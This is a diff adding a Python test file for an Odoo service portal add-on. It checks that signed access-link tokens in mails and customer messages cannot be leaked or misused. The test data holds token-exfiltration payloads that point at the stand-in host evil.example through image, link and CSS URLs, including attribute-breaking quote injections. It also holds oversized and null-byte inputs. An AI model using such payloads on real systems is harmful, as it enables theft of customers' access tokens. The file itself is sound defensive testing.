@@ -1,0 +1,216 @@
+# Part of Service Experience. See LICENSE file for full copyright and licensing details.
+
+import time
+from datetime import timedelta
+from urllib.parse import quote
+
+from lxml import html
+from markupsafe import Markup
+
+from odoo import fields
+from odoo.tests import tagged
+
+from odoo.addons.service_experience_portal.models.mail_mail import MAX_LINKS
+
+from .link_common import SIGNED, LinkCase
+
+EVIL = "https://evil.example/x.png?u="
+QUOTING = """From: Ada <ada@nordlicht.example>
+To: anybody@example.com
+Subject: Re: Your heat pump
+Message-Id: <quoting@nordlicht.example>
+In-Reply-To: {parent}
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<p>Thank you.</p><blockquote><a href="{link}">Open</a> {link}
+<a href="https://filter.example/?url={quoted}&amp;data=1">Open</a></blockquote>
+"""
+
+
+@tagged("post_install", "-at_install")
+class TestLinkInMails(LinkCase):
+    def setUp(self):
+        super().setUp()
+        self.page = self.project.get_base_url() + self.url
+
+    def _mail(self, body):
+        """Send this to the customer and return the mail as it leaves."""
+        with self.mock_mail_gateway():
+            self.project.message_notify(
+                body=Markup(body),  # noqa: S704  (what an attacker wrote)
+                partner_ids=self.person.ids,
+                subject="News",
+            )
+        [mail] = self._mails
+        return mail
+
+    def test_the_key_is_no_part_of_another_address(self):
+        """Whoever writes could put the address of a page into that of a picture of theirs."""
+        for words in (
+            f'<img src="{EVIL}{self.page}">',
+            f'<img src="{EVIL} {self.page}">',
+            f"""<img src="{EVIL}' href='{self.page}'">""",
+            f"""<img src='{EVIL}" <a href="{self.page}">'>""",
+            f'<a href="{EVIL}{self.page}">See</a>',
+            f'<a href="{self.page}@evil.example">See</a>',
+            f'<p style="background-image: url({EVIL}{self.page})">See</p>',
+        ):
+            with self.subTest(words):
+                mail = self._mail(f"<p>Hello</p>{words}")
+                for part in ("body", "body_alternative"):
+                    # The button of the mail leads to the page, too, and nothing else does.
+                    tree = html.fromstring(mail["body"])
+                    links = tree.xpath("//a[contains(@href, '/s/')]/@href")
+                    for token in SIGNED.findall(mail[part]):
+                        self.assertTrue(any(link.endswith(f"/s/{token}") for link in links))
+                    self.assertFalse([link for link in links if "evil" in link])
+                    self.assertNotRegex(mail[part], r"evil\.example[^<]*/s/[\w-]{43}")
+
+    def test_a_link_keeps_its_other_attributes(self):
+        mail = self._mail(
+            f'<p>1 &lt; 2\n</p>\n<a title="A &quot;b&quot;" href="{self.page}/messages">'
+            "A<b>b</b></a>"
+        )
+        [link] = html.fromstring(mail["body"]).xpath("//a[@title]")
+        self.assertEqual((link.get("title"), link.text_content()), ('A "b"', "Ab"))
+        [token] = SIGNED.findall(link.get("href"))
+        self.assertEqual(self.links._find(token).path, f"{self.url}/messages")
+        self.assertIn(token, mail["body_alternative"])
+        self.assertIn("1 &lt; 2", mail["body"])
+
+    def test_numbers_of_no_service(self):
+        """A mail that names such a page is sent as all others are."""
+        base = self.project.get_base_url()
+        for number in ("9" * 5000, "9" * 10, "0", "٣"):
+            with self.subTest(number[:20]):
+                mail = self._mail(f'<a href="{base}/my/service/{number}">See</a>')
+                self.assertIn("See", mail["body"])
+                self.assertNotIn(">See</a", mail["body"].split("/s/")[-1][:60])
+
+    def test_many_links(self):
+        pages = "".join(f'<a href="{self.page}/step/{number}">See</a>' for number in range(90))
+        before = self.links.search_count([])
+        mail = self._mail(pages)
+        self.assertEqual(self.links.search_count([]) - before, MAX_LINKS)
+        self.assertIn(f"{self.page}/step/89", mail["body"])
+
+    def test_answers_by_mail_hold_no_link(self):
+        """What is quoted is read by more people than the one to whom it was written."""
+        parent = self._say_hello()
+        _link, token = self._make_link()
+        link = f"{self.project.get_base_url()}/s/{token}"
+        mail = QUOTING.format(
+            parent=parent.message_id, link=link, quoted=quote(link, safe="").lower()
+        )
+        mail = mail.replace(quote(link, safe="").lower(), quote(link, safe=""))
+        with self.mock_mail_gateway():
+            self.env["mail.thread"].message_process("project.project", mail)
+        answer = self.project.message_ids[0]
+        self.assertIn("Thank you.", answer.body)
+        self.assertNotIn(token, answer.body)
+        self.assertEqual(answer.body.count("services"), 3)
+
+    def _say_hello(self):
+        with self.mock_mail_gateway():
+            return self.project.message_post(
+                body="Hello",
+                partner_ids=self.person.ids,
+                message_type="comment",
+                subtype_xmlid="mail.mt_comment",
+            )
+
+
+@tagged("post_install", "-at_install")
+class TestLinkSessions(LinkCase):
+    def test_whoever_signs_in_afterwards_is_somebody_else(self):
+        _link, token = self._make_link("act")
+        self._open_link(token)
+        self.assertEqual(self._confirm(self._get_code()).status_code, 303)
+        self.assertEqual(self.url_open(self.url).status_code, 200)
+        other = "page_stranger"
+        response = self._post("/web/login", login=other, password=other)
+        self.assertEqual(response.status_code, 303)
+        for page in ("", "/version", "/messages"):
+            self.assertEqual(self.url_open(self.url + page).status_code, 404)
+        # Unless they have the link themselves; then they read.
+        response = self.url_open(f"/s/{token}")
+        self.assertIn("Your heat pump", self._text(response))
+        self.assertIn("confirm", self.url_open(f"{self.url}/confirm").url)
+
+    def test_one_new_link_an_hour(self):
+        link, token = self._make_link()
+        link.expires_at = fields.Datetime.now() - timedelta(seconds=1)
+        self._forget_session()
+        self.assertEqual([self._renew(link, token) for _time in range(3)], [1, 0, 0])
+        others = self.links.search([("project_id", "=", self.project.id)]) - link
+        for end in ("expires_at", "create_date"):
+            long_ago = fields.Datetime.now() - timedelta(hours=2)
+            self.env.cr.execute(
+                f"UPDATE service_portal_link SET {end} = %s WHERE id IN %s",  # noqa: S608
+                [long_ago, tuple(others.ids)],
+            )
+            self.env.invalidate_all()
+            self.assertEqual(self._renew(link, token), 1)
+            others = self.links.search([("project_id", "=", self.project.id)]) - link
+
+    def _renew(self, link, token):
+        """Ask for a new link and return how many mails are sent."""
+        self.assertEqual(self._post("/s/renew", token=token).status_code, 200)
+        with self.mock_mail_gateway():
+            link._renew()
+            self.env["mail.mail"].search([("state", "=", "outgoing")]).send()
+        return len(self._mails)
+
+    def test_pages_that_cannot_be(self):
+        _link, token = self._make_link("act")
+        self._open_link(token)
+        for page in ("/my/service/" + "9" * 5000, "/my/service/\x00", "x" * 20000):
+            response = self._post(f"{self.url}/confirm", page=page, code="1")
+            self.assertEqual(response.status_code, 422)
+        response = self.url_open(
+            f"{self.url}/confirm",
+            data={"csrf_token": self._csrf(), "code": "1"},
+            files=[("page", ("x.txt", b"x"))],
+        )
+        self.assertEqual(response.status_code, 422)
+
+    def test_the_page_to_come_back_to_in_another_language(self):
+        lang = self.env["res.lang"]._activate_lang("fr_FR")
+        step = self._ask()
+        _link, token = self._make_link("act")
+        self._open_link(token)
+        response = self.url_open(f"/{lang.url_code}{self.url}/confirm?page={self._step_url(step)}")
+        root = html.fromstring(response.content)
+        self.assertEqual(set(root.xpath("//input[@name='page']/@value")), {self._step_url(step)})
+        self.assertIn(f"/{lang.url_code}{self.url}/code", root.xpath("//form/@action"))
+
+
+@tagged("post_install", "-at_install")
+class TestKeysInMessages(LinkCase):
+    def _read(self, body):
+        self.project.message_post(
+            body=Markup(body),  # noqa: S704  (what an attacker wrote)
+            author_id=self.person.id,
+            message_type="comment",
+            subtype_xmlid="mail.mt_comment",
+        )
+        [message, *_earlier] = self.project._service_conversation(self.person)["messages"]
+        return message["body"]
+
+    def test_addresses_of_mail_filters(self):
+        base = self.project.get_base_url()
+        for path in ("/s/" + "k" * 43, "/mail/view?access_token=kkk"):
+            url = f"https://filter.example/?url={quote(base + path, safe='')}&amp;data=1"
+            body = self._read(f'<p>Yes. <a href="{url}">Open</a></p>')
+            self.assertIn("Open", body)
+            self.assertNotIn("kkk", body)
+        self.assertIn("href", self._read('<a href="https://docs.example/a?b=c">Open</a>'))
+
+    def test_many_addresses_in_one_word(self):
+        """What a customer sends does not keep the server busy."""
+        base = self.project.get_base_url()
+        started = time.monotonic()
+        body = self._read(f"<p>{(base + '/x') * 10_000}</p><p>{base}/s/{'k' * 43}</p>")
+        self.assertLess(time.monotonic() - started, 5)
+        self.assertNotIn("kkk", body)
